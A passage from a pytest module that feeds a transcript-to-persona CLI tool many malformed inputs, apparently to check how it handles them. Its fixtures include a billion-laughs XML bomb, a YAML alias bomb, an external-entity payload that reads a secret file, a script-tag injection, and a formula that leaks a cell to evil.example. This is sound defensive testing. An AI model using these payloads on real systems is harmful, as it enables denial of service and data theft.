"""Bad inputs, generated: one bad file never stops the batch, and a run never destroys what the last one made.

Most cases are files in ONE shared batch beside a few good transcripts, run once (in process, so the models load
once); each case then checks its own line of the summary: exactly one line naming the file, with the cause and the
fix, the right verdict (read, skipped, warned about or ignored), no traceback, and the rest of the batch written.
Cases that need a run of their own (an empty or all-bad batch after a good run, broken manifests, damaged or
unusable stores) get a small one over a copy of the shared run's output folder, so they hit the caches.

Kinds covered: encodings (UTF-16 with and without BOM, Latin-1, cp1252, invalid UTF-8, binary, NUL bytes, empty,
blank), sizes (file size, turn length, speakers), JSON (NaN, Infinity, negative and huge times, wrong types,
nesting, truncation, top-level shapes, services' shapes with wrong types), WebVTT/SubRip cues and timecodes, broken
Word files (not Word, truncated, zip bomb, XML entity bomb, external entity), hostile metadata (YAML alias bomb,
huge, wrong shapes, tags, dates; manifests with bad rows; HTML and formulas in names and companies), permissions,
links (dangling, outside, loops, inside), special files, the tool's own files (config, output folders, store
backups) and unusable stores.

Keep it fast: every case that is read as an interview names its buyer's title (in the text, as the mini transcript
does, or in a sidecar: ``TITLED``); a buyer without one makes the run train the job-description model (half a
minute on a cold model cache).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import random
import re
import shutil
import sqlite3
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path, PurePosixPath

import pytest

from voiceofbuyer.cli import main

from .conftest import SAMPLE, make_docx

# -- the good transcripts, and a short one written in many shapes -------------------------------------------------
GOOD = ("northwind-cfo.txt", "pinecrest-cfo.vtt", "pinecrest-cfo.yaml")
GOOD_IDS = ("northwind-cfo", "pinecrest-cfo")
HOSTILE_COMPANY = '<script>alert("pwned")</script> Northwind Freight'
FORMULA_COMPANY = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SECRET = "OUTSIDE-SECRET-7f3a"
"""Written in files outside the batch folder (and in files that must never be read): it must reach no output."""

MINI = (
    ("Sam Rivera", "Thanks for joining. Could you tell me a little about your role?"),
    ("Alex Kim", "Sure. I'm the controller at a mid-sized distributor, and I own the month-end close."),
    ("Sam Rivera", "What is the hardest part of paying suppliers today?"),
    ("Alex Kim", "Approvals take forever because managers sit on invoices for a week or more."),
    ("Sam Rivera", "What would make you switch tools?"),
    ("Alex Kim", "If approvals worked from a phone, I would switch tomorrow, honestly."),
    ("Sam Rivera", "What worries you about a new system?"),
    ("Alex Kim", "I worry the integration with our ERP will break during the close."),
)


def with_buyer(name: str, turns=MINI) -> tuple[tuple[str, str], ...]:
    return tuple((name if speaker == "Alex Kim" else speaker, text) for speaker, text in turns)


def mini_text(turns=MINI, extra: str = "") -> str:
    return "".join(f"{speaker}: {text}\n" for speaker, text in turns) + extra


TEXT = mini_text()
TITLED = "title: Controller\n"
"""A sidecar giving a title: the role comes from it (no role model is trained for these cases: it keeps them fast)."""


def stamp(seconds: float, comma: bool = False) -> str:
    hours, rest = divmod(seconds, 3600)
    minutes, secs = divmod(rest, 60)
    return f"{int(hours):02d}:{int(minutes):02d}:{secs:06.3f}".replace(".", "," if comma else ".")


def mini_vtt(turns=MINI) -> str:
    cues = [f"{stamp(5 * n)} --> {stamp(5 * n + 4)}\n<v {speaker}>{text}\n" for n, (speaker, text) in enumerate(turns)]
    return "WEBVTT\n\n" + "\n".join(cues)


def mini_srt(turns=MINI) -> str:
    cues = [
        f"{n + 1}\n{stamp(5 * n, True)} --> {stamp(5 * n + 4, True)}\n{speaker}: {text}\n"
        for n, (speaker, text) in enumerate(turns)
    ]
    return "\n".join(cues)


def mini_json(turns=MINI, **top: object) -> dict:
    document = {
        "schema": "voiceofbuyer.transcript/1",
        "turns": [
            {"speaker": speaker, "start": 5.0 * n, "end": 5.0 * n + 4, "text": text}
            for n, (speaker, text) in enumerate(turns)
        ],
    }
    document.update(top)
    return document


def json_bytes(value: object) -> bytes:
    return json.dumps(value).encode("utf-8")


def with_turn(field: str, value: object, index: int = 1) -> bytes:
    """The mini JSON transcript with one turn's field replaced by raw JSON text ``value``."""
    marker = "__REPLACED__"
    document = mini_json()
    document["turns"][index][field] = marker
    return json.dumps(document).replace(f'"{marker}"', str(value)).encode("utf-8")


def docx_with_document_xml(xml: bytes) -> bytes:
    """A real Word file whose body XML is ``xml``."""
    source = zipfile.ZipFile(io.BytesIO(make_docx([f"{s}: {t}" for s, t in MINI])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = xml if item.filename == "word/document.xml" else source.read(item.filename)
            target.writestr(item.filename, data)
    return buffer.getvalue()


def corrupt_deflate(outside: Path) -> bytes:
    """A Word file whose body's compressed bytes are damaged (the archive's directory is intact)."""
    data = bytearray(make_docx([f"{s}: {t}" for s, t in MINI]))
    body = data.find(b"word/document.xml") + len("word/document.xml")  # the body's local header, then its data
    for offset in range(body + 20, body + 220):
        data[offset] ^= 0x5A
    return bytes(data)


def zip_bytes(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def garbage(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
XML_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10))
    + f']><w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>Sam: hi &lol9;</w:t></w:r></w:p></w:body></w:document>'
).encode()
YAML_BOMB = (
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(8))
    + "interviewee: Alex Kim\n"
)
SPEAKERS_41 = "".join(f"Person {n:02d}: I have something to say about invoices number {n}.\n" for n in range(41)) * 2
LONG_TURN = "Sam Rivera: Tell me everything.\nAlex Kim: " + "we pay invoices late " * 6_000 + "\nSam Rivera: Thanks.\n"
SPACY_LIMIT = "Sam Rivera: Tell me everything.\nAlex Kim: " + "x" * 1_000_001 + "\nSam Rivera: Thanks.\n"


def deep_json(depth: int) -> bytes:
    return ("[" * depth + '"Sam Rivera: hello"' + "]" * depth).encode()


# -- the cases ------------------------------------------------------------------------------------------------------
READ = "read"
"""The file must be read as an interview (an odd but valid input), with no line saying otherwise."""
IGNORED = "ignored"
"""The file must be left out without a word (documented: hidden files, lock files, READMEs, the tool's own files)."""
NOT_READ = "not-read"
"""The file must not become an interview, whatever is said about it."""
READ_WARNED = "read-warned"
"""The file must be read as an interview, with one warning line about it (matching the case's pattern)."""


Maker = Callable[[Path, Path], None]
"""Writes a case: (batch folder, path of the case in it)."""


@dataclass(frozen=True)
class Case:
    path: str
    """Relative to the batch folder."""
    make: Maker
    """Writes the case into the batch folder."""
    verdict: str
    """READ, IGNORED, NOT_READ, or 'skipped' / 'warning': the word the summary line starts with."""
    pattern: str = ""
    """A regular expression the line must match (after the file name)."""
    named: str = ""
    """The file the line names, when not ``path`` (a sidecar)."""
    needs: str = ""
    """'unreadable': only where chmod can make a file unreadable (not as root)."""


def write(data: bytes | str | Callable[[Path], bytes]) -> Maker:
    """Writes ``data`` (or what ``data(outside folder)`` returns) at the case's path."""

    def make(root: Path, path: Path) -> None:
        content = data(root.parent / "outside") if callable(data) else data
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)

    return make


def whisperx(time: str) -> bytes:
    """WhisperX's segments, the second turn's time (its start for "-5", else its end) written as ``time``."""
    start, end = (time, "9.0") if time == "-5" else ("3.0", time)
    return (
        '{"segments": [{"start": 0.0, "end": 2.0, "text": "What is painful about invoices for you?", "speaker": '
        f'"SPEAKER_00"}}, {{"start": {start}, "end": {end}, "text": "Matching purchase orders by hand takes my team '
        'three full days.", "speaker": "SPEAKER_01"}]}'
    ).encode()


def twice(transcript: str) -> Maker:
    """The transcript at the case's path and, the same bytes, as ``a.txt`` beside it (read first)."""

    def make(root: Path, path: Path) -> None:
        write(transcript)(root, path)
        write(transcript)(root, path.with_name("a.txt"))

    return make


def with_sidecar(sidecar: bytes | str, transcript: str = TEXT) -> Maker:
    """A transcript (the mini one) at the case's path, and a sidecar beside it."""

    def make(root: Path, path: Path) -> None:
        write(transcript)(root, path)
        write(sidecar)(root, path.with_suffix(".yaml"))

    return make


def sparse(size: int) -> Maker:
    """A file of ``size`` bytes that takes no disk space (a hole): its size alone must refuse it."""

    def make(root: Path, path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("wb") as stream:
            stream.write(b"Sam Rivera: hello\nAlex Kim: hi\n")
            stream.truncate(size)

    return make


def link(target: str, outside: bool = False) -> Maker:
    """A symbolic link to ``target``: relative to the link's folder, or (``outside``) in the folder beside the batch
    that holds the secret."""

    def make(root: Path, path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(root.parent / "outside" / target if outside else target, path)

    return make


def fifo(root: Path, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(path)


def unreadable_file(root: Path, path: Path) -> None:
    write(mini_text())(root, path)
    path.chmod(0)


def unreadable_sidecar(root: Path, path: Path) -> None:
    with_sidecar("title: Controller\n")(root, path)
    path.with_suffix(".yaml").chmod(0)


def unreadable_folder(root: Path, path: Path) -> None:
    write(mini_text())(root, path / "inside.txt")
    path.chmod(0)


def old_output_folder(root: Path, path: Path) -> None:
    """An output folder of an earlier run with another --out, left inside the batch: never read as interviews."""
    write(b"")(root, path / "voiceofbuyer.sqlite")
    write(mini_text(extra=f"Alex Kim: {SECRET}\n"))(root, path / "personas" / "finance-leader.md")
    write(json_bytes(mini_json((*MINI, ("Alex Kim", SECRET)))))(root, path / "voiceofbuyer.json")


def external_entity(outside: Path) -> bytes:
    return docx_with_document_xml(
        f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file://{outside / "secret.txt"}">]>'
        f'<w:document xmlns:w="{_W}"><w:body>'
        + "".join(f"<w:p><w:r><w:t>{s}: {t}</w:t></w:r></w:p>" for s, t in MINI)
        + "<w:p><w:r><w:t>Alex Kim: &x;</w:t></w:r></w:p></w:body></w:document>"
    )  # fmt: skip


NAMES_WITH_MARKS = {"decomposed-accents": "Jose\u0301 Garci\u0301a", "devanagari": "प्रिया शर्मा", "thai": "สมชาย ใจดี"}
"""Buyers whose names hold combining marks (accents typed apart, as macOS writes them; vowel signs)."""
LATIN1 = mini_text(extra="Alex Kim: Our café in Malmö pays in crowns, déjà vu.\n").encode("latin-1")
S, W = "skipped", "warning"
NOT_TEXT = r"not a text file"
EMPTY = r"empty transcript"
NO_LABELS = r"no speaker labels"
NO_CUE = r"captions without a single cue that holds a word"
TOO_BIG = r"MB: larger than any transcript"
LONG = r"a turn of [\d,]+ characters"
SPEAKERS = r"41 speakers"
BAD_JSON = r"invalid JSON"
NOT_DOCX = r"not a valid \.docx file"
NOT_PDF = r"not a readable PDF \(\w+: .*\(fix: "
PDF_EXPORT = (
    Path(__file__).parent
    / "fixtures"
    / "cases"
    / "1588-otter-pdf-export-wrapped-lines-ligatures"
    / "Fenwick payables discovery.pdf"
)


OTTER_PDF = (
    PDF_EXPORT.parent.parent / "1589-otter-pdf-pages-open-on-speaker-line" / "Lakeshore Health CLM interview.pdf"
)


def pdf_bytes(source: Path | None = None, password: str | None = None, algorithm: str = "RC4-128") -> bytes:
    """A PDF: ``source`` copied (a blank page without it, as a scan's text layer is), encrypted with ``algorithm``
    and a user ``password`` where given (an empty one: only an owner password, which opens it)."""
    import pypdf

    writer = pypdf.PdfWriter(clone_from=source) if source else pypdf.PdfWriter()
    if source is None:
        writer.add_blank_page(612, 792)
    if password is not None:
        writer.encrypt(user_password=password, owner_password="owner", algorithm=algorithm)
    data = io.BytesIO()
    writer.write(data)
    return data.getvalue()


# fmt: off
CASES: tuple[Case, ...] = (
    # encodings the README promises to read
    Case("enc/utf16-bom.txt", write(TEXT.encode("utf-16")), READ),
    Case("enc/utf16le-no-bom.txt", write(TEXT.encode("utf-16-le")), READ),
    Case("enc/utf16be-no-bom.txt", write(TEXT.encode("utf-16-be")), READ),
    Case("enc/utf16-bom-vtt.vtt", write(mini_vtt().encode("utf-16")), READ),
    Case("enc/utf16le-no-bom-srt.srt", write(mini_srt().encode("utf-16-le")), READ),
    Case("enc/utf8-bom.json", write(b"\xef\xbb\xbf" + json_bytes(mini_json())), READ),
    Case("enc/utf16-bom-json.json", write(json.dumps(mini_json()).encode("utf-16")), READ),
    Case("enc/latin1.txt", write(LATIN1), READ),
    Case("enc/cp1252.md", write(mini_text(extra="Alex Kim: It’s “urgent” – really.\n").encode("cp1252")), READ),
    Case("enc/invalid-utf8.txt", write(TEXT.encode() + b"Alex Kim: caf\xe9 \xff\xfe bytes.\n"), READ),
    Case("enc/crlf.srt", write(mini_srt().replace("\n", "\r\n")), READ),
    Case("enc/cr-only.txt", write(TEXT.replace("\n", "\r")), READ),
    Case("enc/one-nul.txt", write(TEXT.replace("close.", "close.\x00")), READ),
    # damaged in saving: read without the damage, and said so
    Case("enc/nul-padded-after-a-crash.txt", write(TEXT.encode() + b"\x00" * 1700), READ_WARNED,
         r"1700 NUL bytes after the text .*: read without them"),
    Case("enc/utf16-nul-padded.txt", write(TEXT.encode("utf-16") + b"\x00" * 1000), READ_WARNED, r"NUL bytes"),
    Case("enc/utf16-one-byte-short.txt", write(TEXT.encode("utf-16")[:-1]), READ_WARNED,
         r"UTF-16 text cut off in the middle of its last character"),
    Case("enc/utf8-cut-inside-cafe.txt", write(mini_text(extra="Alex Kim: Renée pays the café.\n").encode()[:-3]),
         READ_WARNED, r"1 byte that is no UTF-8"),
    Case("enc/mac-roman.txt", write(mini_text(extra="Alex Kim: I’m sure we’re “late”.\n").encode("mac_roman")), READ),
    Case("enc/rtf-saved-as-txt.txt", write(b"{\\rtf1\\ansi\\deff0 {\\fonttbl}\\f0 " + TEXT.encode() + b"}"), S,
         r"a rich-text \(RTF\) document.*fix: save it as plain text"),
    # a muted recording's captions: nothing of the buyer's stands
    Case("speakers/muted-recording.srt", write("1\n00:00:01,000 --> 00:00:05,000\nSPEAKER_00: Can you hear me?\n\n2\n"
                                               "00:00:06,000 --> 00:00:30,000\nSPEAKER_01: Thank you.\n\n3\n"
                                               "00:00:31,000 --> 00:00:35,000\nSPEAKER_00: Are you there?\n\n4\n"
                                               "00:00:36,000 --> 00:01:00,000\nSPEAKER_01: you\n"),
         S, r"not one statement of the buyer's is left after clean-up"),
    # not text at all
    *(Case(f"binary/garbage-{ext}.{ext}", write(garbage(4096, n)), S, NOT_TEXT)
      for n, ext in enumerate(("txt", "md", "vtt", "srt", "json"))),
    Case("binary/png.txt", write(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + garbage(2000, 9)), S, NOT_TEXT),
    # Nobody but the interviewer speaks (the buyer's line dropped): no empty persona, one line.
    Case("speakers/only-interviewer.txt", write("Interviewer: Thanks for joining. Tell me about your role?\n"
                                                "Interviewer: Hello? Are you there? I can't hear you.\n"),
         S, r"no buyer speaks in it, only Interviewer .*fix: check its speaker labels"),
    # The interviewer's side alone, named (tester 18): their questions were quoted as a buyer's, under a title.
    Case("speakers/interviewer-side-only.txt", write(
        "[00:00:07] Sam Rivera: Okay, we're recording. Could you start by introducing yourself?\n"
        "[00:01:33] Sam Rivera: And you've been using Tallyflow for, what, about five months?\n"
        "[00:03:46] Sam Rivera: Can you take me back to before that? What made you start looking?\n"
        "[00:05:12] Sam Rivera: Right.\n[00:05:59] Sam Rivera: That makes sense. And was there a third thing?\n"),
         S, r"no buyer speaks in it, only 'Sam Rivera', who asks the questions .*fix: export the transcript with both"),
    # Not interviews, though read as speaker turns: a guide of questions, and meeting notes where nobody asks.
    Case("notes/interview-guide.md", write("# Discovery guide\n\nInterviewer: Maya Chen\n\n"
                                           "Q1: Can you tell me about your role?\nQ2: Where do approvals get stuck?\n"
                                           "Q3: What tools do you use today?\nQ4: What would stop you from switching?\n"
                                           "Wrap-up: thank them, stop recording.\n"),
         S, r"4 questions with 4 words of answer in all \(an interview guide\?\), so not an interview"),
    Case("notes/minutes.txt", write("Weekly sync\nAttendees: Maya Chen, Tom Becker, Lena Park\n\n"
                                    "Maya: Roadmap is on track, the SAP connector slips to July.\n"
                                    "Tom: We have recruited six of the eight interviews for procurement.\n"
                                    "Lena: The pricing experiment shows a small lift in demo requests.\n"
                                    "Maya: Then we extend the pricing test for two weeks.\n"),
         S, r"nobody asks a question in it \(meeting notes\?\), so not an interview: left out"),
    Case("notes/guide-with-owner.txt", write("DISCUSSION GUIDE v3\nOwner: Rachel Ng    Last edited: 3 March 2025\n\n"
                                             "INTRO (5 min)\n- Thank them, confirm consent to record.\n"
                                             "1. Tell me about your role. What does a typical week look like?\n"
                                             "   PROBE: size of team, who they report to\n"
                                             "2. Walk me through your last month-end close.\n"
                                             "3. What would make you say no to a tool?\n"
                                             "   PROBE: price, security review, who signs\n"
                                             "4. Who else would be involved in buying it?\n"
                                             "WRAP-UP (2 min)\n- Thank them, confirm the voucher.\n"),
         S, r"one passage under one label \('Owner'\) laid out in lists, tables or headings \(a document\?\)"),
    Case("notes/slack-channel.txt", write("#research-atlas\n\n"
                                          "[10:02] maya: morning! Owen call is tomorrow 3:30, who's taking notes?\n"
                                          "[10:03] tom: I can. Hannah's leading?\n[10:03] hannah: yep.\n"
                                          "[10:05] hannah: I'll put the guide in the drive.\n"
                                          "[10:09] hannah: good shout, adding it as Q10b\n"
                                          "[10:15] ben: fyi Farah moved to next week, she's got an audit committee\n"
                                          "[14:21] maya: Dev said he is the only finance person there.\n"
                                          "[14:22] tom: haha yes. controller, AP, payroll, all of it\n"
                                          "[14:25] ben: we should split solo finance from the team lead personas\n"
                                          "[14:26] maya: let's discuss at Thursday's synthesis\n"),
         S, r"4 people talk, 2 of 10 turns ask anything.*\(team notes or a chat\?\), so not an interview"),
    Case("notes/slack-copy.txt", write("Priya Raman  10:42 AM\ndid the Lakeside call get recorded?\n"
                                       "Tom Becker  10:43 AM\nyes! uploading to the drive now\n"
                                       "Tom Becker  10:43 AM\nshe said approvals take nine days\n:+1:\n1\n"
                                       "Priya Raman  10:47 AM\nok. are we still on for Thursday?\n"
                                       "Tom Becker  10:53 AM\nwill do (edited)\n"),
         W, r"a chat log \(messages typed in a meeting's chat or a team chat\)"),
    # messages stamped with the day they were sent (tester 22): a WhatsApp export and a Teams chat copied as text
    Case("notes/whatsapp.txt", write("[09/06/2025, 10:14:02] Sofia Marchetti: Hi Dean, it's Sofia from Keelstack.\n"
                                     "[09/06/2025, 10:15:40] Dean Whitmore: No problem. What day works for you?\n"
                                     "[09/06/2025, 10:16:05] Sofia Marchetti: Would Thursday at 3pm UK time work?\n"
                                     "[09/06/2025, 10:21:33] Dean Whitmore: Thursday is tricky, I have the budget "
                                     "committee. Could we do Friday morning instead?\n"),
         W, r"a chat log \(messages typed in a meeting's chat or a team chat\)"),
    Case("notes/teams-chat.txt", write("Marchetti, Sofia 6/9 10:14 AM\nHi Dean, thanks again for agreeing to talk!\n"
                                       "[6/9 10:15 AM] Whitmore, Dean (External)\nNo problem. What day works?\n"
                                       "[6/9 10:16 AM] Marchetti, Sofia\nWould Thursday at 3pm work? About 45 min.\n"
                                       "[6/9 10:21 AM] Whitmore, Dean (External)\nThursday is tricky. Friday?\n"),
         W, r"a chat log \(messages typed in a meeting's chat or a team chat\)"),
    Case("notes/recorded-demo.vtt", write("WEBVTT\n\n1\n00:00:02.000 --> 00:00:10.000\n<v Priya Raman>Hi everyone, "
                                          "I'm Priya. I'll show you approvals.</v>\n\n2\n00:00:11.000 --> "
                                          "00:00:20.000\n<v Priya Raman>We built a model that learns your GL codes."
                                          "</v>\n\n3\n00:00:21.000 --> 00:00:29.000\n<v Priya Raman>Most of our "
                                          "customers set rules by amount.</v>\n"),
         S, r"one voice \('Priya Raman'\) showing a product as its maker 2 times \(a recorded demo\?\)"),
    Case("notes/podcast.txt", write("Jordan Pike: Welcome back to Close the Books, the podcast for finance people.\n"
                                    "Alicia Moreno: This is episode fifty-seven. What's the worst part of close?\n"
                                    "Jordan Pike: Accruals, every month. Approvals sit for nine days.\n"
                                    "Alicia Moreno: Before we go on, this episode is brought to you by Ledgerly.\n"),
         S, r"a podcast or show \(.*\), so not an interview"),
    Case("notes/debrief.txt", write("Hannah Reyes: Okay, Maria just dropped. Let's do the debrief while it's fresh.\n"
                                    "Tom Becker: The approvals. She said nine days, a headline quote.\n"
                                    "Hannah Reyes: Agreed. Did you catch her title?\n"
                                    "Tom Becker: AP manager. I'd tag her as AP for the persona.\n"
                                    "Hannah Reyes: I'll put the quotes in the synthesis board.\n"),
         S, r"the interviewers' debrief after a call \(.*\), not the interview itself, so not an interview"),
    # Interviews that only look like those: read.
    Case("looks-like/buyer-quotes-her-podcast.txt", write(
        "Sam Ortiz: Thanks for joining. What's your role at Ledger Lines?\n"
        "Dana Whitfield: I'm the controller. We also run a podcast, it opens with 'welcome back to Ledger Lines, the "
        "podcast for finance people', and I read the line 'this episode is brought to you by' every week.\n"
        "Sam Ortiz: Where do approvals get stuck?\nDana Whitfield: In the CFO's inbox, for nine days.\n"), READ),
    Case("looks-like/voice-memo-of-a-saas-buyer.txt", write(
        "Priya Raman: I'm the VP of finance at Tallyhub. Our pricing is usage-based, so our customers get invoiced "
        "monthly from our platform, and the vendor bills we pay swing by thirty percent. Approvals take nine days.\n"),
         READ_WARNED, r"cannot tell the interviewer from the interviewee"),
    Case("looks-like/focus-group.txt", write(
        "Focus group, AP leads, 12 March\nModerator: Jen Park\n\nQ1. What slows your close down?\n\n"
        "Participant 1: Approvals, every month.\nParticipant 2: I'd push back on that a bit, it's the bank feed.\n"
        "Participant 3: I agree with P2.\nParticipant 4: For us it's intercompany.\n"), READ),
    Case("looks-like/terse-timed-answers.txt", write(
        "Sam Ortiz (00:00:01): Where do invoices arrive?\nDana (00:00:04): Email.\n"
        "Sam Ortiz (00:00:06): How many a month?\nDana (00:00:08): Over ten thousand.\n"
        "Sam Ortiz (00:00:10): Who approves them?\nDana (00:00:12): Our CFO.\n"), READ),
    Case("notes/survey-answers.txt", write("Q4. What is the most painful part of your close?\n\n"
                                           "Respondent 1: Chasing approvers for sign-off.\n"
                                           "Respondent 2: Reconciling the bank feed by hand.\n\n"
                                           "Q5. Why did you start looking for a new tool?\n\n"
                                           "Respondent 1: Our auditor flagged the approval trail.\n"
                                           "Respondent 2: We grew from two entities to five.\n"),
         S, r"answers of 2 respondents and hardly anyone asks anything \(a survey export\?\), so not an interview"),
    Case("notes/guide-with-placeholders.txt", write("Interviewer: Could you tell me about your role and your team?\n"
                                                    "Participant: [role, team size, ERP]\n"
                                                    "Interviewer: What made you start looking for a new tool?\n"
                                                    "Participant: [trigger event]\n"
                                                    "Interviewer: What would stop you from buying?\n"
                                                    "Participant: [objections]\n"),
         S, r"3 questions with 0 words of answer in all \(an interview guide\?\)"),
    Case("binary/gzip.json", write(b"\x1f\x8b\x08\x00" + garbage(2000, 10)), S, NOT_TEXT),
    # NUL bytes after the text, however many (the length a crash left reserved): the text read, the padding said
    Case("binary/nul-padded.txt", write(TEXT.encode() + b"\x00" * 20_000), READ_WARNED, r"20000 NUL bytes"),
    Case("binary/nul-padded-vtt.vtt", write(mini_vtt().encode() + b"\x00" * 20_000), READ_WARNED, r"20000 NUL bytes"),
    Case("binary/utf16-odd-garbage.txt", write(TEXT.encode("utf-16-le")[:-1] + garbage(3001, 11)), S, NOT_TEXT),
    # empty and blank
    *(Case(f"empty/empty-{ext}.{ext}", write(b""), S, NOT_DOCX if ext == "docx" else EMPTY)
      for ext in ("txt", "md", "vtt", "srt", "json", "docx", "pdf")),
    *(Case(f"blank/blank-{ext}.{ext}", write(" \n\t\n  \r\n"), S, EMPTY)
      for ext in ("txt", "md", "vtt", "srt", "json")),
    Case("blank/bom-only.txt", write(b"\xef\xbb\xbf"), S, EMPTY),
    Case("blank/utf16-bom-only.txt", write(b"\xff\xfe"), S, EMPTY),
    Case("blank/punctuation.txt", write("... --- ??? !!!\n"), S, EMPTY),
    Case("blank/no-labels.txt", write("We pay invoices late.\nNobody approves them.\n" * 20_000), S, NO_LABELS),
    # sizes over the documented limits
    Case("size/huge.txt", sparse(60_000_000), S, TOO_BIG),
    Case("size/huge-json.json", sparse(51_000_000), S, TOO_BIG),
    # a sign-in page saved in the captions' place (tester 18): what it is, not how captions are written
    Case("web/zoom-call.vtt", write("<!DOCTYPE html>\n<html><head><title>Sign In | Zoom</title></head><body><h1>Sign "
                                    "in to view this recording</h1></body></html>\n"),
         S, r"a web page \('Sign In \| Zoom'\), not a transcript \(fix: download the transcript again"),
    # a 30 MB server log under a transcript's name was read for minutes before it was refused (tester 18)
    Case("size/server-log.txt", sparse(6_000_000), S, r"6.0 MB: larger than any transcript of its kind \(5 MB at most"),
    Case("size/long-turn.txt", write(LONG_TURN), S, LONG),
    Case("size/over-spacy-limit.txt", write(SPACY_LIMIT), S, LONG),
    Case("size/long-turn-json.json", write(json_bytes(mini_json((*MINI, ("Alex Kim", "again " * 20_000))))), S, LONG),
    Case("size/long-cue.vtt", write(mini_vtt((*MINI, ("Alex Kim", "again " * 20_000)))), S, LONG),
    Case("size/many-speakers.txt", write(SPEAKERS_41), S, SPEAKERS),
    Case("size/many-speakers-json.json",
         write(json_bytes(mini_json(tuple((f"Person {n}", f"Point {n} about invoices.") for n in range(41)) * 2))),
         S, SPEAKERS),
    Case("size/many-speakers-vtt.vtt",
         write(mini_vtt(tuple((f"Person {n}", f"Point {n} about invoices.") for n in range(41)) * 2)), S, SPEAKERS),
    # JSON: times
    Case("json/nan-start.json", write(with_turn("start", "NaN")), S, r"NaN"),
    Case("json/infinity-end.json", write(with_turn("end", "Infinity")), S, r"Infinity"),
    Case("json/minus-infinity.json", write(with_turn("start", "-Infinity")), S, r"Infinity"),
    Case("json/negative-start.json", write(with_turn("start", "-5")), S, r"turns\[1\]\.start"),
    Case("json/huge-time.json", write(with_turn("end", "1e300")), S, r"turns\[1\]\.end"),
    # A service's export (WhisperX segments): a time that is no time is refused too; a number as text is a time.
    *(Case(f"json/whisperx-{name}.json", write(whisperx(value)), S, rf"turn 2 {key} is .*no time between 0")
      for name, key, value in (("negative", "start", "-5"), ("infinite", "end", "1e400"), ("word", "end", '"soon"'))),
    Case("json/whisperx-text-times.json", write(whisperx('"9.0"')), READ),
    Case("json/overflow-time.json", write(with_turn("end", "1e400")), S, r"turns\[1\]\.end|Infinity"),
    Case("json/long-int-time.json", write(with_turn("start", "9" * 400)), S, r"400 digits is not a time"),
    Case("json/very-long-int-time.json", write(with_turn("start", "9" * 5000)), S, r"5,000 digits is not a time"),
    Case("json/string-time.json", write(with_turn("start", '"00:01:02"')), S, r"turns\[1\]\.start"),
    Case("json/bool-time.json", write(with_turn("end", "true")), S, r"turns\[1\]\.end"),
    Case("json/word-nan.json",
         write(with_turn("words", '[{"word": "Sure", "start": NaN, "end": 2.0}]')), S, r"NaN"),
    Case("json/word-negative.json",
         write(with_turn("words", '[{"word": "Sure", "start": -3, "end": 2.0}]')), S, r"words\[0\]\.start"),
    Case("json/word-not-object.json", write(with_turn("words", '["Sure"]')), S, r"words\[0\]"),
    Case("json/words-not-list.json", write(with_turn("words", '"Sure"')), S, r"words"),
    # JSON: shapes and types
    Case("json/deep-list.json", write(deep_json(100_000)), S, r"nested too deeply"),
    Case("json/deep-empty-list.json", write(b"[" * 100_000 + b"]" * 100_000), S, EMPTY),
    Case("json/deep-object.json", write(('{"a":' * 50_000 + "1" + "}" * 50_000).encode()), S, r"nested too deeply"),
    Case("json/deep-metadata.json",
         write(json.dumps(mini_json()).replace('"turns"', '"metadata": {"company": ' + '{"a": ' * 200 + "1"
                                                + "}" * 201 + ', "turns"').encode()), S, r"metadata|nested"),
    Case("json/truncated.json", write(json_bytes(mini_json())[:300]), S, BAD_JSON),
    Case("json/trailing-garbage.json", write(json_bytes(mini_json()) + b" }{ nonsense"), S, BAD_JSON),
    Case("json/python-repr.json", write(repr(mini_json())), S, BAD_JSON),
    *(Case(f"json/top-{name}.json", write(raw), S, r"not a transcript|empty transcript")
      for name, raw in (("list", "[1, 2, 3]"), ("string", '"hello there"'), ("null", "null"), ("number", "42"),
                        ("object", "{}"), ("true", "true"))),
    Case("json/turns-not-list.json", write(json_bytes(mini_json() | {"turns": {"0": "x"}})), S, r"turns"),
    Case("json/turns-empty.json", write(json_bytes(mini_json() | {"turns": []})), S, EMPTY),
    Case("json/turn-not-object.json", write(json_bytes(mini_json() | {"turns": ["Sam: hi", "Alex: yo"]})), S,
         r"turns\[0\]"),
    Case("json/speaker-missing.json", write(with_turn("speaker", "null")), S, r"turns\[1\]\.speaker"),
    Case("json/speaker-empty.json", write(with_turn("speaker", '"  "')), S, r"turns\[1\]\.speaker"),
    Case("json/speaker-number.json", write(with_turn("speaker", "7")), S, r"turns\[1\]\.speaker"),
    Case("json/text-missing.json", write(with_turn("text", "null")), S, r"turns\[1\]\.text"),
    Case("json/text-list.json", write(with_turn("text", '["a", "b"]')), S, r"turns\[1\]\.text"),
    Case("json/metadata-list.json", write(json_bytes(mini_json(metadata=["Alex Kim"]))), S, r"metadata"),
    Case("json/metadata-nested.json", write(json_bytes(mini_json(metadata={"company": {"name": "Acme"}}))), S,
         r"metadata field 'company'"),
    Case("json/source-not-string.json", write(json_bytes(mini_json(source=["a.mp3"]))), S, r"source"),
